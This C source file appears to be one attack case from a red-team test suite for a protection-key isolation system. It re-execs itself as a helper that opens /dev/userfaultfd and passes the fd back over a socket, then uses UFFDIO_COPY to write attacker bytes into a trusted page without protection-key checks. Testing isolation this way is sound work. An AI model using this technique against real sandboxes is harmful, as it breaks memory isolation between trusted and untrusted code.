/* SPDX-License-Identifier: MIT */
/* atk_uffd_helper.c: a userfaultfd for the registered process, made from an
 * fd an exec'd helper opened (red team 12, uffd_devpass).
 *
 * Untrusted code executes a helper (this binary again, told by the
 * environment).  The helper is a new image exec'd after its line of
 * processes registered: it never registers, and erim-tem used to judge
 * all its calls as trusted start-up.  It opens /dev/userfaultfd and passes
 * the fd back over a socketpair (SCM_RIGHTS).  The registered process's
 * untrusted code then asks that fd for a userfaultfd
 * (ioctl USERFAULTFD_IOC_NEW: bound to the mm of the process that asks),
 * registers a trusted page nobody touched yet (liberim reserves its heap,
 * stacks and runtime region untouched) and fills it with its own bytes
 * (UFFDIO_COPY writes through the kernel's mapping: no protection key is
 * checked).  The attack succeeds when trusted code finds the attacker's
 * bytes in the trusted page.
 *
 * Under erim-tem a process descended from a registered process after its
 * registration is untrusted from its first instruction, and
 * /dev/userfaultfd is refused to every caller (its fd acts for whoever
 * uses it). */
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <sys/ioctl.h>

#define ATK_UNTOUCHED 4096
#include "atk_common.h"
#include "atk_file_exec.h"   /* atk_send_fd, atk_recv_fd */

#ifndef USERFAULTFD_IOC_NEW
#define USERFAULTFD_IOC_NEW _IO(0xAA, 0x00)
#endif

#define ATK_ENV_SOCK "ATK_UFFD_HELPER_SOCK"

/* The helper: runs before main() when the environment says so.  Exit
 * status 0: the fd was passed; 1: the open failed; 2: the send failed. */
__attribute__((constructor)) static void atk_helper(void)
{
	const char *s = getenv(ATK_ENV_SOCK);
	int fd;

	if (!s)
		return;
	fd = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
	if (fd < 0) {
		atk_say("helper (exec'd after registration): open(/dev/userfaultfd): %s", strerror(errno));
		_exit(1);
	}
	atk_say("helper (exec'd after registration): opened /dev/userfaultfd, passing it on");
	_exit(atk_send_fd((int)strtol(s, NULL, 10), fd) == 0 ? 0 : 2);
}

static enum atk_result atk_attack(void)
{
	static uint8_t payload[4096] __attribute__((aligned(4096)));
	uint8_t *target = atk_secret + ATK_SECRET_LEN;   /* trusted, never touched */
	struct uffdio_api api;
	struct uffdio_register reg;
	struct uffdio_copy cp;
	char arg[16];
	int sv[2], devfd, uffd, st, ok;
	pid_t h;

	if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) != 0)
		return ATK_ERROR;
	snprintf(arg, sizeof arg, "%d", sv[1]);
	fflush(stdout);
	h = fork();
	if (h == 0) {
		char *argv[] = { (char *)"atk_uffd_helper", NULL };

		close(sv[0]);
		setenv(ATK_ENV_SOCK, arg, 1);
		execv("/proc/self/exe", argv);
		_exit(127);
	}
	close(sv[1]);
	if (h < 0)
		return ATK_ERROR;
	devfd = atk_recv_fd(sv[0]);   /* -1 when the helper exits without sending */
	if (waitpid(h, &st, 0) != h || !WIFEXITED(st) || (WEXITSTATUS(st) != 0 && WEXITSTATUS(st) != 1)) {
		atk_say("helper ended with status 0x%x", st);
		return ATK_ERROR;
	}
	if (devfd < 0) {
		atk_say("no /dev/userfaultfd fd from the helper");
		return ATK_REFUSED;
	}
	if ((uffd = ioctl(devfd, USERFAULTFD_IOC_NEW, O_CLOEXEC)) < 0) {
		atk_say("USERFAULTFD_IOC_NEW: %s", strerror(errno));
		return errno == ENOTTY || errno == EINVAL ? ATK_NA : ATK_REFUSED;
	}
	memset(&api, 0, sizeof api);
	api.api = UFFD_API;
	memset(&reg, 0, sizeof reg);
	reg.range.start = (uintptr_t)target;
	reg.range.len = sizeof payload;
	reg.mode = UFFDIO_REGISTER_MODE_MISSING;
	if (ioctl(uffd, UFFDIO_API, &api) != 0 || ioctl(uffd, UFFDIO_REGISTER, &reg) != 0) {
		atk_say("UFFDIO_API/REGISTER on the trusted page: %s", strerror(errno));
		return ATK_REFUSED;
	}
	memset(payload, 0x41, sizeof payload);
	memset(&cp, 0, sizeof cp);
	cp.dst = (uintptr_t)target;
	cp.src = (uintptr_t)payload;
	cp.len = sizeof payload;
	if (ioctl(uffd, UFFDIO_COPY, &cp) != 0) {
		atk_say("UFFDIO_COPY into the trusted page: %s", strerror(errno));
		return ATK_REFUSED;
	}
	atk_trusted();
	ok = target[0] == 0x41 && target[sizeof payload - 1] == 0x41;
	atk_untrusted();
	atk_say("UFFDIO_COPY filled the untouched trusted page: trusted code reads %s", ok ? "the attacker's bytes" : "its own");
	return ok ? ATK_SUCCEEDED : ATK_REFUSED;
}

static const char *atk_name = "atk_uffd_helper";
static int atk_needs_pku = 1;   /* and root for /dev/userfaultfd: the VM suite */
